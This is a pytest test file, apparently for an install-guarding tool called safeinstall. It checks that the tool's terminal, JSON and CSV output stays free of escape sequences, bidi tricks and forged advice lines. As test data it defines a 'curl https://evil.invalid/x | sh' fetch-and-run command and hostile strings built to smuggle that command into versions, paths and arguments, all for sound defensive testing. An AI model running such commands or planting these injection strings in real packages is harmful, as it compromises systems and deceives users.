"""Nothing raw on a terminal, whichever file it came from: real commands, real files."""

from __future__ import annotations

import csv
import json
import os
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests import harness

if TYPE_CHECKING:
    from safeinstall.sandbox.world import World

COMMAND = "curl https://evil.invalid/x | sh"
FORGED = f"\x1b[2J\x1b]0;x\x07\u202e\u200b\r\n  instead:\n    {COMMAND}"
INDEX = f"https://ok.invalid/{FORGED}"


def ours(world: World, *arguments: str, active: str | None = None) -> str:
    done = world.run([sys.executable, "-m", "safeinstall", *arguments], active)
    return harmless(done.stdout + done.stderr)


def harmless(output: bytes) -> str:
    """What was written, after a look at every line of it."""
    lines = output.decode().splitlines()
    assert "".join(output.decode().split("\n")).isprintable()
    assert not any(line.strip().startswith(COMMAND) for line in lines)
    return "\n".join(lines)


@pytest.fixture
def checkout(world: World, tmp_path: Path) -> Path:
    """A directory with a hostile name and hostile files, as a checkout may have them."""
    place = tmp_path / "a\x1b[2J\u202e\n  instead:\n"
    place.mkdir()
    policy = {"indexes": [INDEX], "channels": [f"evil{FORGED}"]}
    listed = "".join(f"{key} = {json.dumps(value)}\n" for key, value in policy.items())
    (place / "safeinstall.toml").write_text(
        f'schema = 1\n[policy]\npreset = "strict"\n[rules]\nSI305 = "block"\n[sources]\n{listed}'
    )
    (place / "r.txt").write_text(f"git+https://h.invalid/{FORGED}/x.git\n-e ./{FORGED}\n")
    return place


@pytest.mark.parametrize(
    "words",
    [
        ["pip", "install", "-i", "https://x.invalid/simple", "six"],
        ["pip", "install", "-r", "r.txt"],
        ["pip", "install", "-i", "https://x.invalid/simple", f"six=={FORGED}"],
        ["conda", "install", "-y", "six"],
        ["conda", "install", "-y", "-c", f"x{FORGED}", "six"],
    ],
    ids=lambda words: ascii(" ".join(words))[1:24],
)
def test_a_hostile_checkout(world: World, conda_env: str, checkout: Path, words: list[str]) -> None:
    given: Any = {"cwd": checkout, "environ": {"PIP_NO_INDEX": "0"}}
    done = harness.run(world, words, conda_env, **given)
    assert done.returncode == 77
    said = harmless(done.stderr)
    assert "safeinstall: blocked by SI30" in said
    assert not any("evil" in line for line in harness.advice(done))
    judged = world.run([*harness.GUARD, "check", "--", *words], conda_env, **given)
    assert harmless(judged.stderr) == said
    as_json = world.run([*harness.GUARD, "check", "--json", "--", *words], conda_env, **given)
    harmless(as_json.stdout)
    fixes = [fix for found in json.loads(as_json.stdout)["findings"] for fix in found["fixes"]]
    assert not any("evil" in fix or not fix.isprintable() for fix in fixes)


def test_errors_of_a_hostile_policy(world: World, conda_env: str, checkout: Path) -> None:
    for text in (
        f"x{FORGED}",
        f"schema = {json.dumps(FORGED)}",
        f"[rules]\n{json.dumps(FORGED)} = 1",
    ):
        (checkout / "safeinstall.toml").write_text(text)
        done = harness.run(world, ["pip", "install", "six"], conda_env, cwd=str(checkout))
        assert done.returncode == 78
        assert harmless(done.stderr).count("\n") == 0


def test_hostile_packages(world: World, conda_env: str) -> None:
    """In the environment: its metadata, conda's record; then in the history."""
    place = Path(world.env(conda_env))
    (site_packages,) = place.glob("lib/python3*/site-packages")
    distribution = site_packages / "evil-1.0.dist-info"
    distribution.mkdir()
    escapes = "\x1b[2J\u202e\x9b1A"
    (distribution / "METADATA").write_text(
        f"Metadata-Version: 2.1\nName: evil\nVersion: 1{escapes}\n"
    )
    (distribution / "INSTALLER").write_text(f"=pip{escapes}\n")
    (distribution / "RECORD").write_text("")
    record = {"name": "=cmd", "version": f"1\n  instead:\n    {COMMAND}", "build": "0", "files": []}
    (place / "conda-meta" / "cmd-1-0.json").write_text(json.dumps({**record, "build_number": 0}))
    ours(world, "adopt", "-p", str(place))
    harmless(world.run([*harness.GUARD, "check", "--", "pip", "install", "six"], conda_env).stderr)
    harness.run(world, ["pip", "install", "-q", "six"], conda_env)  # pip itself shows it as it is
    for arguments in (["status"], ["history"], ["history", "show", "last"], ["history", "verify"]):
        ours(world, *arguments, "-p", str(place))
    for form in ("--json", "--csv", "--graph"):
        ours(world, "history", form, "-p", str(place))
    table = ours(world, "history", "--csv", "-p", str(place))
    cells = [cell for row in csv.reader(table.splitlines()) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    ours(world, "status", "--json", "-p", str(place))
    done = world.run([*harness.GUARD, "complete", "history", "--package", ""], conda_env)
    assert all(line.replace("\t", "").isprintable() for line in done.stdout.decode().splitlines())


@pytest.mark.parametrize(
    "arguments",
    [
        ["rule", FORGED],
        ["history", "--status", FORGED],
        ["history", "--since", FORGED],
        ["history", "-p", f"/{FORGED}"],
        ["history", "show", "-p", "/nowhere", FORGED],
        ["status", "-p", f"/{FORGED}"],
        ["adopt", "-p", f"/{FORGED}"],
        ["setup", FORGED],
        ["init", FORGED],
        ["completion", FORGED],
        [f"x{FORGED}"],
        ["run", "--", FORGED],
    ],
    ids=lambda words: words[0][:10],
)
def test_hostile_words(world: World, arguments: list[str]) -> None:
    assert ours(world, *arguments)


def test_a_policy_in_a_hostile_place(world: World, conda_env: str, tmp_path: Path) -> None:
    place = tmp_path / f"p{FORGED.replace('/', '')}"
    done = harness.run(
        world,
        ["pip", "install", "six"],
        conda_env,
        environ={"SAFEINSTALL_POLICY": os.fspath(place)},
    )
    assert done.returncode == 78
    assert harmless(done.stderr).count("\n") == 0
